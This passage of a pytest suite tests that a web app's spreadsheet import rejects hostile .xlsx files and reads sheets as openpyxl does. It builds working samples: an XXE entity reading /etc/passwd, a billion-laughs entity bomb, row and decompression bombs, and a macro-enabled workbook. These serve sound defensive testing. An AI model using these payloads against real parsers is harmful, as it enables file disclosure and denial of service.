            'openxmlformats.org/spreadsheetml/2006/main"><sheetData>' + rows
            + "</sheetData></worksheet>").encode("utf-16")
    return rebuilt(base, replace={"xl/worksheets/sheet2.xml": part})


def rows_behind_comments(base: bytes) -> bytes:
    """300,000 rows in a part with comments, which could hide a tag from a quick count."""
    rows = b"".join(b'<row><!-- <c r="A1"> --><c r="XFD%d"><v>1</v></c></row>' % n
                    for n in range(1, 300_001))
    return rebuilt(base, replace={"xl/worksheets/sheet2.xml": sheet(rows)})


def wide_rows(base: bytes) -> bytes:
    """Rows of one cell in the last column: openpyxl would pad each to 16,384 cells."""
    rows = b"".join(b'<row r="%d"><c r="XFD%d"><v>1</v></c></row>' % (n, n)
                    for n in range(1, 1001))
    return rebuilt(base, replace={"xl/worksheets/sheet2.xml": sheet(rows)})


def billion_laughs(base: bytes) -> bytes:
    """The classic entity bomb, in a worksheet."""
    entities = b'<!ENTITY lol "lol">' + b"".join(
        b'<!ENTITY lol%d "%s">' % (n, (b"&lol%d;" % (n - 1) if n > 1 else b"&lol;") * 10)
        for n in range(1, 10))
    rows = b'<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
    part = sheet(rows, b"<!DOCTYPE worksheet [" + entities + b"]>")
    return rebuilt(base, replace={"xl/worksheets/sheet2.xml": part})


def external_entity(base: bytes) -> bytes:
    """An entity that would read a file of the server into a cell."""
    rows = b'<row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row>'
    part = sheet(rows, b'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')
    return rebuilt(base, replace={"xl/worksheets/sheet2.xml": part})


def huge_part(base: bytes) -> bytes:
    """A part that states 150 MB unpacked (of spaces: it zips to almost nothing)."""
    return rebuilt(base, add={"xl/media/filler.xml": b" " * (150 * 1024 * 1024)})


def macro_enabled(base: bytes) -> bytes:
    """A workbook saved as .xlsm: a VBA project and the macro-enabled content type."""
    source = zipfile.ZipFile(io.BytesIO(base))
    types = source.read("[Content_Types].xml").replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    return rebuilt(base, replace={"[Content_Types].xml": types},
                   add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512})


PNG = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00"
       b"\x00\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N"
       b"\x00\x00\x00\x00IEND\xaeB`\x82")
CSV = "name,organisation\nأحمد,رئاسة الهجرة\n".encode()

#: name -> (builder of the file from a good workbook, words of the message the user reads)
HOSTILE = {
    "shared-strings bomb": (strings_bomb, "more than 1,000,000 different texts"),
    "300,000 rows": (rows_bomb, "more than 100,000 rows"),
    "a million-row gap": (row_gap, "more than 100,000 rows"),
    "rows padded to the last column": (wide_rows, "more than 3,000,000 cells"),
    "a gap in UTF-16": (row_gap_in_utf16, "more than 100,000 rows"),
    "rows behind comments": (rows_behind_comments, "more than 3,000,000 cells"),
    "billion laughs": (billion_laughs, "XML declarations (DTD or entities)"),
    "external entity": (external_entity, "XML declarations (DTD or entities)"),
    "a part of 150 MB": (huge_part, "too large once unpacked"),
    "macro-enabled": (macro_enabled, "holds macros (.xlsm)"),
    "a PNG named .xlsx": (lambda _base: PNG, "not an Excel workbook (.xlsx)"),
    "a CSV named .xlsx": (lambda _base: CSV, "not an Excel workbook (.xlsx)"),
}


@pytest.fixture
def good(login) -> bytes:
    """A filled template, as an office would upload it."""
    return as_bytes(office_workbook(login("coordinator_a")))


def test_the_good_workbook_is_within_every_limit(app, world, login, good):
    response = upload(english(login("coordinator_a")), good, dry_run="y")
    assert response.status_code == 200 and "would do" in response.get_data(as_text=True)


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_workbook_is_refused_fast_with_a_4xx_and_says_why(app, world, login, good,
                                                                     name):
    build, words = HOSTILE[name]
    data = build(good)
    assert len(data) < 2 * 1024 * 1024, "each hostile file is small"
    client = english(login("coordinator_a"))
    started, cpu = time.perf_counter(), time.process_time()
    response = upload_closing(client, data)
    elapsed, cpu = time.perf_counter() - started, time.process_time() - cpu
    page = response.get_data(as_text=True)
    assert response.status_code == 422, name
    assert words in page, name
    assert cpu < CPU_SECONDS and elapsed < SECONDS, f"{name}: {cpu:.1f} s CPU, {elapsed:.1f} s"
    assert not written(response) and "root:" not in page
    assert record_counts(app) == dict.fromkeys(record_counts(app), 0)


def _cli_import(app, path: Path) -> tuple[int, str, float, int]:
    """`flask import --dry-run` in its own process: exit code, output, CPU seconds, peak RSS
    (MB)."""
    env = {**os.environ, "DATABASE_URL": app.config["SQLALCHEMY_DATABASE_URI"],
           "SECRET_KEY": "test", "CASE_DATA_KEYS": ",".join(app.config["CASE_DATA_KEYS"])}
    started = time.perf_counter()
    with tempfile.TemporaryFile() as out:
        process = subprocess.Popen(
            [sys.executable, "-m", "flask", "--app", "app", "import", str(path), "--dry-run",
             "--lang", "en", "--office", "protection"],
            cwd=ROOT, env=env, stdout=out, stderr=subprocess.STDOUT)
        # the peak of the process's own image (VmHWM), read while it runs: the kernel's
        # ru_maxrss also counts the test worker it was forked from, which grows over a run
        peak = 0
        while True:
            pid, status, usage = os.wait4(process.pid, os.WNOHANG)
            if pid:
                break
            try:
                found = re.search(r"^VmHWM:\s+(\d+) kB",
                                  Path(f"/proc/{process.pid}/status").read_text(), re.M)
            except OSError:
                found = None
            peak = max(peak, int(found.group(1)) if found else 0)
            time.sleep(0.005)
        process.returncode = os.waitstatus_to_exitcode(status)
        out.seek(0)
        output = out.read().decode()
    assert time.perf_counter() - started < SECONDS * 2
    return process.returncode, output, usage.ru_utime + usage.ru_stime, peak // 1024


#: `flask import` of the good workbook, measured once: every hostile one is held against it
_GOOD_RUN: list[tuple[int, str, float, int]] = []


@pytest.mark.parametrize("name", ["shared-strings bomb", "300,000 rows", "billion laughs",
                                  "rows padded to the last column"])
def test_flask_import_refuses_a_hostile_workbook_in_bounded_memory(app, world, good, tmp_path,
                                                                   name):
    good_path, hostile_path = tmp_path / "good.xlsx", tmp_path / "hostile.xlsx"
    good_path.write_bytes(good)
    hostile_path.write_bytes(HOSTILE[name][0](good))
    if not _GOOD_RUN:
        _GOOD_RUN.append(_cli_import(app, good_path))
    code, output, good_cpu, baseline = _GOOD_RUN[0]
    assert code == 0, output
    code, output, cpu, peak = _cli_import(app, hostile_path)
    assert code != 0 and HOSTILE[name][1] in output, output
    # the process's start-up is in both figures; the refusal itself adds little to either
    assert cpu < good_cpu + CPU_SECONDS, f"{cpu:.1f} s CPU against {good_cpu:.1f} s"
    assert peak < baseline + 100, f"peak {peak} MB against {baseline} MB for a good workbook"


def test_the_limits_are_settings(app, world, login, good, monkeypatch):
    client = english(login("coordinator_a"))
    monkeypatch.setitem(app.config, "IMPORT_MAX_ROWS", 20)
    response = upload_closing(client, good)
    assert response.status_code == 422 and "more than 20 rows" in response.get_data(as_text=True)
    monkeypatch.setitem(app.config, "IMPORT_MAX_ROWS", 100_000)
    monkeypatch.setitem(app.config, "IMPORT_MAX_CELLS", 50)
    response = upload_closing(client, good)
    assert response.status_code == 422 and "more than 50 cells" in response.get_data(
        as_text=True)
    monkeypatch.setitem(app.config, "IMPORT_MAX_CELLS", 3_000_000)
    assert upload_closing(client, good, dry_run="y").status_code == 200


def test_the_limits_are_read_from_the_environment(monkeypatch, tmp_path):
    from coalition.config import load_config

    monkeypatch.setenv("IMPORT_MAX_ROWS", "5000")
    monkeypatch.setenv("IMPORT_MAX_PART_BYTES", str(50 * 1024 * 1024))
    config = load_config(str(tmp_path))
    assert config["IMPORT_MAX_ROWS"] == 5000
    assert config["IMPORT_MAX_PART_BYTES"] == 50 * 1024 * 1024


# --- text from workbooks: no bidi tricks, no markup ----------------------------------------
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"


def test_bidi_controls_are_dropped_from_imports(app, world, login):
    client = login("coordinator_a")
    book = template(client)
    sheet = book["contacts"]
    keys = [cell.value for cell in sheet[1]]
    sheet.append([{"name": f"\u2067سليم{BIDI} الحلبي\u2069", "kind": "person",
                   "organisation": "\u202eجمعية"}.get(key) for key in keys])
    buffer = io.BytesIO()
    book.save(buffer)
    response = upload(client, buffer.getvalue())
    assert response.status_code == 200, response.get_data(as_text=True)[-2000:]
    with app.app_context():
        contact = db.session.query(Contact).one()
        assert contact.name == "سليم الحلبي" and contact.organisation == "جمعية"


def test_a_workbook_name_with_markup_stays_text(app, world, login):
    """The import report shows a sheet's name as text too."""
    client = login("coordinator_a")
    book = openpyxl.Workbook()
    book.active.title = "<b>x<b>"
    book.active["A1"] = "data"
    buffer = io.BytesIO()
    book.save(buffer)
    page = upload(client, buffer.getvalue()).get_data(as_text=True)
    assert "<b>x<b>" not in page and "&lt;b&gt;x&lt;b&gt;" in page


# --- the sheet reader against openpyxl's -------------------------------------------------
def _cell_types_workbook() -> bytes:
    """Every kind of cell a filled template may hold, with gaps, as openpyxl writes it."""
    from datetime import datetime, time, timedelta

    from openpyxl.cell.rich_text import CellRichText, TextBlock
    from openpyxl.cell.text import InlineFont

    book = openpyxl.Workbook()
    ws = book.active
    ws.title = "meetings"
    ws.append(["text", 1, 2.5, True, False, date(2024, 3, 1), datetime(2024, 3, 1, 10, 30),
               time(9, 15), timedelta(hours=30), None, "  spaced  ", "=1+1", "#N/A", 1e20, -3,
               "مرحبا\nسطر", "٢٠٢٤/٠٣/٠١"])
    ws["A5"] = "after a gap"
    ws["Z7"] = 0
    ws.cell(row=9, column=2, value=CellRichText(["plain ", TextBlock(InlineFont(b=True), "bold")]))
    book.create_sheet("contacts")
    book.create_sheet("trainings")["C4"] = "only cell"
    return as_bytes(book)


def _odd_sheet_workbook() -> bytes:
    """A sheet part written by hand: rows and cells without references, a row number with a
    decimal point, a row repeated, rich inline text, each type code."""
    rows = (b'<row><c t="inlineStr"><is><t>no references</t></is></c><c><v>7</v></c></row>'
            b'<row r="3.0"><c r="B3" t="b"><v>1</v></c><c t="e"><v>#DIV/0!</v></c>'
            b'<c t="str"><f>A1</f><v>saved result</v></c><c t="d"><v>2024-02-29</v></c></row>'
            b'<row r="2"><c r="A2" t="inlineStr"><is><t>behind row 3</t></is></c></row>'
            b'<row r="5"><c r="c5" t="inlineStr"><is><r><t>run </t></r><r><t xml:space="preserve">'
            b' two</t></r></is></c><c r="E5"/><c r="D5" t="inlineStr"/></row>')
    return rebuilt(_cell_types_workbook(), replace={"xl/worksheets/sheet2.xml": sheet(rows)})


def _saved_by_libreoffice(data: bytes, folder: Path) -> bytes:
    """The workbook saved again by LibreOffice, as Excel saves it: shared strings, styles."""
    (folder / "in.xlsx").write_bytes(data)
    subprocess.run([shutil.which("libreoffice"), "--headless", "--norestore", "--convert-to",
                    "xlsx", "--outdir", str(folder / "out"), str(folder / "in.xlsx")],
                   check=True, capture_output=True, timeout=120)
    return (folder / "out" / "in.xlsx").read_bytes()


@pytest.mark.parametrize("made", ["openpyxl", "by hand", "libreoffice"])
def test_sheets_are_read_cell_for_cell_as_openpyxl_reads_them(app, made, tmp_path):
    from coalition.imports.workbook import Book

    if made == "libreoffice" and not shutil.which("libreoffice"):
        pytest.skip("LibreOffice is not installed (apt-get install -y libreoffice-calc-nogui)")
    data = {"openpyxl": _cell_types_workbook, "by hand": _odd_sheet_workbook}.get(
        made, lambda: _saved_by_libreoffice(_cell_types_workbook(), tmp_path))()
    kinds = set()
    with app.app_context(), Book(data) as book:
        for title in book.titles:
            reference = openpyxl.load_workbook(io.BytesIO(data), read_only=True,
                                               data_only=True)[title]
            reference.reset_dimensions()
            expected = [tuple(row) for row in reference.iter_rows(values_only=True)]
            read = [row for _number, row in book.rows(title)]
            assert read == expected, title
            kinds |= {type(value).__name__ for row in read for value in row}
    # each kind of value was there to be compared
    assert kinds >= {"str", "int", "float", "bool", "datetime", "time", "timedelta", "NoneType"}



def _xml_text(text: str) -> bytes:
    """Text as a sheet part holds it: markup escaped, Arabic letters as character references."""
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return "".join(ch if ord(ch) < 128 else f"&#{ord(ch)};" for ch in escaped).encode()


_WORDS = st.text(alphabet=st.sampled_from("ab بت١ <&>\"'\n\t"), max_size=5)
#: a cell's attributes after its reference, then its content (None: an empty element)
def _number_cells(decimal: bytes, shared: bytes) -> list:
    """Cells of a whole number, of a decimal and of a shared string (by its index), the
    latter two with these attributes."""
    return [st.integers(-10**6, 10**6).map(lambda n: (b"", b"<v>%d</v>" % n)),
            st.floats(-1e6, 1e6, allow_nan=False).map(lambda x: (decimal, b"<v>%r</v>" % x)),
            st.integers(0, 2).map(lambda n: (shared, b"<v>%d</v>" % n))]


_CELLS = st.one_of(
    *_number_cells(b' t="n"', b' t="s"'),
    st.sampled_from([(b' t="b"', b"<v>1</v>"), (b' t="b"', b"<v>0</v>"),
                     (b' t="e"', b"<v>#N/A</v>"), (b' t="d"', b"<v>2024-02-29</v>"),
                     (b' t="d"', b"<v>2024-02-29T10:30:00</v>"), (b' t="inlineStr"', None),
                     (b' t="inlineStr"', b"<is/>"), (b"", None), (b' s="0"', None),
                     (b"", b"<v></v>"), (b"", b"<f>1+1</f><v>2</v>"), (b' t="n"', b"<v>1E3</v>"),
                     (b"", b"<v>3<extLst/>4</v>"), (b"", b"<extLst/><v>5</v><v>6</v>")]),
    _WORDS.map(lambda w: (b' t="str"', b"<f>A1</f><v>" + _xml_text(w) + b"</v>")),
    _WORDS.map(lambda w: (b' t="inlineStr"', b"<is><t>" + _xml_text(w) + b"</t></is>")),
    st.tuples(_WORDS, _WORDS, _WORDS).map(lambda w: (b' t="inlineStr"', (
        b"<is><r><rPr><b/></rPr><t>" + _xml_text(w[0]) + b'</t></r><r><t xml:space="preserve">'
        + _xml_text(w[1]) + b'</t></r><rPh sb="0" eb="1"><t>' + _xml_text(w[2])
        + b"</t></rPh></is>"))),
)


@st.composite
def _sheet_rows(draw) -> bytes:
    """Rows as different programs write them: with and without row and cell references,
    gaps, every type of cell, rich and phonetic inline text, escaped markup."""
    rows, number = [], 0
    for _row in range(draw(st.integers(0, 6))):
        number += draw(st.sampled_from([1, 1, 2, 4]))
        attribute = draw(st.sampled_from([b"", b' r="%d"' % number, b' r="%d.0"' % number,
                                          b' r="%d" spans="1:3"' % number]))
        cells, column = [], 0
        for _cell in range(draw(st.integers(0, 5))):
            column = max(1, column + draw(st.sampled_from([1, 1, 2, -2])))  # back, too
            letters = openpyxl.utils.get_column_letter(column).encode()
            reference = draw(st.sampled_from([b' r="%s%d"' % (letters, number), b""]))
            attributes, content = draw(_CELLS)
            cells.append(b"<c" + reference + attributes
                         + (b"/>" if content is None else b">" + content + b"</c>"))
        rows.append(b"<row" + attribute + b">" + b"".join(cells) + b"</row>")
    return b"".join(rows)


def _with_shared_strings(data: bytes, strings: list[str]) -> bytes:
    """The workbook with a shared-strings part holding `strings`."""
    part = (b'<?xml version="1.0" encoding="UTF-8"?><sst ' + MAIN_NS + b">" + b"".join(
        b"<si><t>" + _xml_text(text) + b"</t></si>" for text in strings) + b"</sst>")
    types = zipfile.ZipFile(io.BytesIO(data)).read("[Content_Types].xml").replace(b"</Types>", (
        b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
        b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>'))
    return rebuilt(data, replace={"[Content_Types].xml": types},
                   add={"xl/sharedStrings.xml": part})


#: a workbook of one empty sheet, whose sheet part each generated one replaces
_BLANK = as_bytes(openpyxl.Workbook())


@settings(max_examples=150, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rows=_sheet_rows())
def test_any_sheet_is_read_cell_for_cell_as_openpyxl_reads_it(app, rows):
    from coalition.imports.workbook import Book

    data = _with_shared_strings(rebuilt(_BLANK, replace={"xl/worksheets/sheet1.xml": sheet(rows)}),
                                ["نص", "a&b", ""])
    reference = openpyxl.load_workbook(io.BytesIO(data), read_only=True, data_only=True).active
    reference.reset_dimensions()
    expected = [tuple(row) for row in reference.iter_rows(values_only=True)]
    with app.app_context(), Book(data) as book:
        assert [row for _number, row in book.rows(book.titles[0])] == expected


def _plain_text(text: str, as_references: bool) -> bytes:
    """Text as openpyxl writes it (every Arabic letter a character reference) or as Excel
    and LibreOffice do (UTF-8), its markup escaped by entities."""
    if as_references:
        return _xml_text(text)
    return (text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
            .replace('"', "&quot;").encode())


_TEXTS = st.tuples(_WORDS, st.booleans()).map(lambda w: _plain_text(*w))
#: a cell as Excel, LibreOffice and openpyxl write it: attributes after its reference, then
#: its content (None: an empty element)
_PLAIN_CELLS = st.one_of(
    *_number_cells(b' s="0" t="n"', b' s="0" t="s"'),
    st.sampled_from([(b' t="b"', b"<v>1</v>"), (b' t="e"', b"<v>#N/A</v>"),
                     (b' t="d"', b"<v>2024-02-29</v>"), (b' t="inlineStr"', b""),
                     (b' t="inlineStr"', None), (b' s="0"', None), (b"", b""),
                     (b' t="s"', b"<is><t>ignored</t></is>"), (b' t="inlineStr"', b"<v>7</v>"),
                     (b' s="0" t="b"', b'<f aca="false">TRUE()</f><v>1</v>'),
                     (b"", b'<f t="shared" ref="A1:A3" si="0"/><v>2</v>'),
                     (b"", b"<f>A1&amp;B1</f>")]),
    _TEXTS.map(lambda text: (b' t="str"', b"<v>" + text + b"</v>")),
    st.tuples(_TEXTS, st.sampled_from([b"", b' xml:space="preserve"'])).map(
        lambda w: (b' t="inlineStr"', b"<is><t" + w[1] + b">" + w[0] + b"</t></is>")),
)
#: what the quick way leaves to the exact one, each well formed
_UNUSUAL = [b"<!-- a note -->", b'<c r="A1"><v><![CDATA[5]]></v></c>', b'<c r="a1"><v>1</v></c>',
            b'<c r="A1" t="inlineStr"><is><t>a&#38;b</t></is></c>',
            b'<c r="A1"><f>1</f><f>2</f></c>', b'<c r="A1" t="str"><v>line\r\nbreak</v></c>',
            b'<c r="A1" cm="1"><v>3</v></c>', b"<extLst/>",
            b'<c r="A1" t="inlineStr"><is><r><t>run</t></r></is></c>']


@st.composite
def _plain_rows(draw) -> tuple[bytes, bool]:
    """Rows as Excel, LibreOffice and openpyxl write them (spaces and lines between elements,
    rows with and without numbers, cells with and without references, empty rows), and
    whether something the quick way does not read was put among them."""
    rows, number = [], 0
    unusual = draw(st.sampled_from([None, None, *_UNUSUAL]))
    count = draw(st.integers(0 if unusual is None else 1, 8))
    at = draw(st.integers(0, max(count - 1, 0)))
    space = draw(st.sampled_from([b"", b"\n", b"\n  "]))
    for row in range(count):
        number += draw(st.sampled_from([1, 1, 3]))
        attribute = draw(st.sampled_from([b"", b' r="%d"' % number, b' r="%d" spans="1:3"' % number,
                                          b' r="%d" x14ac:dyDescent="0.25"' % number]))
        cells, column = [], 0
        for _cell in range(draw(st.integers(0, 4))):
            column += draw(st.sampled_from([1, 1, 2]))
            letters = openpyxl.utils.get_column_letter(column).encode()
            reference = draw(st.sampled_from([b' r="%s%d"' % (letters, number), b""]))
            attributes, content = draw(_PLAIN_CELLS)
            cells.append(b"<c" + reference + attributes
                         + (b"/>" if content is None else b">" + content + b"</c>"))
        if unusual is not None and row == at:
            cells.insert(draw(st.integers(0, len(cells))), unusual)
        rows.append(b"<row" + attribute + (b"/>" if not cells and draw(st.booleans()) else (
            b">" + space.join(cells) + b"</row>")))
    return space.join(rows), unusual is not None


@settings(max_examples=200, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(plain=_plain_rows(), chunk=st.sampled_from([1 << 20, 16, 97]))
def test_a_sheet_is_read_the_quick_way_as_openpyxl_reads_it(app, plain, chunk):
    """Rows as spreadsheet programs write them are read by regular expressions, a piece at a
    time (small pieces here, so that rows run across them), and give what openpyxl gives;
    anything else in them, wherever it is, has the sheet read by expat from there on."""
    from coalition.imports.workbook import Book, _SheetValues

    rows, unusual = plain
    part = (b'<?xml version="1.0" encoding="UTF-8"?><worksheet ' + MAIN_NS + b' xmlns:x14ac='
            b'"http://schemas.microsoft.com/office/spreadsheetml/2009/9/ac"><dimension ref="A1"/>'
            b"<sheetData>" + rows + b"</sheetData><pageMargins/></worksheet>")
    data = _with_shared_strings(rebuilt(_BLANK, replace={"xl/worksheets/sheet1.xml": part}),
                                ["نص", "a&b", ""])
    reference = openpyxl.load_workbook(io.BytesIO(data), read_only=True, data_only=True).active
    reference.reset_dimensions()
    expected = [tuple(row) for row in reference.iter_rows(values_only=True)]
    was = _SheetValues.CHUNK
    _SheetValues.CHUNK = chunk
    try:
        with app.app_context(), Book(data) as book:
            title = book.titles[0]
            assert [row for _number, row in book.rows(title)] == expected
            assert (title in book.read_exactly) == unusual
    finally:
        _SheetValues.CHUNK = was


@pytest.mark.parametrize("around", [
    (b'<!-- <sheetData><row r="4"><c r="A4"><v>4</v></c></row></sheetData> -->', b""),
    (b"", b'<extLst><row r="9"><c r="B9"><v>9</v></c></row></extLst>'),
], ids=["a sheetData in a comment", "a row after sheetData"])
def test_what_surrounds_the_rows_sends_the_sheet_the_exact_way(app, around):
    """The quick way reads only the rows of the one <sheetData>: a sheetData in a comment,
    or a row outside it, has the part read by expat, which gives what openpyxl gives."""
    from coalition.imports.workbook import Book

    before, after = around
    part = (b'<?xml version="1.0" encoding="UTF-8"?><worksheet ' + MAIN_NS + b">" + before
            + b'<sheetData><row r="2"><c r="A2" t="inlineStr"><is><t>&#1606;&#1589;</t></is>'
            b"</c></row></sheetData>" + after + b"</worksheet>")
    data = rebuilt(_BLANK, replace={"xl/worksheets/sheet1.xml": part})
    reference = openpyxl.load_workbook(io.BytesIO(data), read_only=True, data_only=True).active
    reference.reset_dimensions()
    expected = [tuple(row) for row in reference.iter_rows(values_only=True)]
    with app.app_context(), Book(data) as book:
        title = book.titles[0]
        assert [values for _number, values in book.rows(title)] == expected
        assert title in book.read_exactly
    assert expected[1] == ("نص",)


def test_the_quick_way_knows_which_prefixes_are_in_force():
    """A row attribute's prefix must be declared around the rows (as x14ac is, on the
    worksheet), not on an element that closed before them."""
    from coalition.imports.workbook import _check_attributes, _Frame, _Unusual

    in_force = _Frame().open(b'<?xml version="1.0" encoding="UTF-8"?><worksheet ' + MAIN_NS
                             + b' xmlns:x14ac="urn:ac"><sheetPr xmlns:y="urn:y"/>')
    assert in_force == {"xml", "x14ac"}
    _check_attributes(' spans="1:3" x14ac:dyDescent="0.25" xml:lang="ar"', in_force)
    for refused in (' y:x="1"', ' spans="1:3" spans="1:4"', ' spans="1:3" r="4"'):
        with pytest.raises(_Unusual):
            _check_attributes(refused, in_force)
    with pytest.raises(_Unusual):  # another encoding than UTF-8
        _Frame().open(b'<?xml version="1.0" encoding="ISO-8859-1"?><worksheet ' + MAIN_NS + b">")


def test_workbooks_saved_by_spreadsheet_programs_are_read_the_quick_way(app, tmp_path):
    """A filled template as openpyxl writes it, and as LibreOffice saves it again (as Excel
    saves: shared strings, styles, spans), is read the quick way, cell for cell as openpyxl
    reads it."""
    from datetime import datetime

    from coalition.imports.workbook import Book

    book = openpyxl.Workbook()
    ws = book.active
    ws.title = "meetings"
    ws.append(["date", "office", "topic", "government", "city"])
    for n in range(50):
        ws.append([datetime(2024, 1, 1 + n % 28), "protection", f"لقاء تنسيقي <{n}> & ما بعده",
                   n % 2 == 0, 3.5 * n if n % 3 else None])
    written = as_bytes(book)
    saved = [("openpyxl", written)]
    if shutil.which("libreoffice"):
        saved.append(("libreoffice", _saved_by_libreoffice(written, tmp_path)))
    for made, data in saved:
        reference = openpyxl.load_workbook(io.BytesIO(data), read_only=True,
                                           data_only=True)["meetings"]
        reference.reset_dimensions()
        expected = [tuple(row) for row in reference.iter_rows(values_only=True)]
        with app.app_context(), Book(data) as read:
            assert [row for _number, row in read.rows("meetings")] == expected, made
            assert read.read_exactly == set(), made
    assert len(saved) == 2 or not os.environ.get("CI"), "LibreOffice is missing on CI"


@settings(max_examples=300, deadline=None)
@given(rows=_sheet_rows(), prefixed=st.sampled_from(["none", "all", "some cells"]),
       strings=st.integers(0, 3), chunk=st.sampled_from([1 << 20, 7, 64, 301]))
def test_the_quick_count_of_a_part_is_its_exact_count(rows, prefixed, strings, chunk):
    """Counted the quick way, a part unpacked a megabyte at a time (or in small pieces, so
    that rows and cells run across pieces and most pieces are not the first) is counted as
    expat counts it."""
    from coalition.imports.workbook import _PartScanner, _Tally

    part = sheet(rows + b"<si><t>a</t></si>" * strings)
    if prefixed == "all":  # as some generators write every element: x:row, x:c …
        part = re.sub(rb"<(/?)(worksheet|sheetData|row|c|v|f|is|t|r|rPr|rPh|b|extLst|si)"
                      rb"(?=[\s/>])", rb"<\1x:\2", part).replace(b"xmlns=", b"xmlns:x=")
    elif prefixed == "some cells":  # every other cell in another namespace
        cells = iter(range(10**6))
        part = re.sub(rb"<c(?=[\s/>])([^>]*?)(/>|>.*?</c>)", lambda m: m[0] if next(cells) % 2
                      else b"<y:c" + m[1] + m[2].replace(b"</c>", b"</y:c>"), part, flags=re.S
                      ).replace(b"<worksheet ", b'<worksheet xmlns:y="urn:other" ')
    quick, exact = _Tally(), _Tally()
    scanner = _PartScanner(quick, lambda _tally: None, sheet=True)
    scanner.CHUNK = chunk
    scanner._fast(io.BytesIO(part))
    _PartScanner(exact, lambda _tally: None, sheet=True)._exact(io.BytesIO(part))
    assert quick == exact  # rows, cells, strings and whether a formula is there
    assert exact.strings == strings
    assert exact.formulas == (b"<f>" in part or b"<f " in part or b"<x:f" in part)


def test_rows_inserted_in_bulk_are_stored_as_sqlalchemy_stores_them(app, world):
    """insert_rows() binds each value as SQLAlchemy's own executemany does: dates, times,
    flags, numbers, text, None and column defaults left out of the rows."""
    from datetime import datetime

    from coalition.database import insert_rows, table_of, utcnow

    table = table_of(Meeting)
    stamp = utcnow()
    rows = [{"office_id": world["office_a"], "date": date(2024, 2, 29), "topic": topic,
             "government": government, "comprehensive": not government, "city": city,
             "track_id": track, "created_at": stamp, "version": 1, "deleted_at": None,
             "updated_at": datetime(year, 3, 1, 10, 30, 5, 123456)}
            for topic, government, city, track, year in (
                ("لقاء <b>", True, "", None, 2024),
                ("second", False, "حلب", world["track_1"], 2025))]
    with app.app_context():
        connection = db.session.connection()
        first = (connection.scalar(select(func.max(table.c.id))) or 0) + 1
        ours = [{**row, "id": first + n} for n, row in enumerate(rows)]
        theirs = [{**row, "id": first + 2 + n} for n, row in enumerate(rows)]
        insert_rows(connection, table, ours)
        connection.execute(table.insert(), theirs)
        columns = ", ".join(column.name for column in table.columns if column.name != "id")
        stored = [tuple(row) for row in connection.exec_driver_sql(  # as the driver reads them
            f"SELECT {columns} FROM {table.name} WHERE id >= {first} ORDER BY id")]
        db.session.rollback()
    assert stored[:2] == stored[2:] and len(stored) == 4
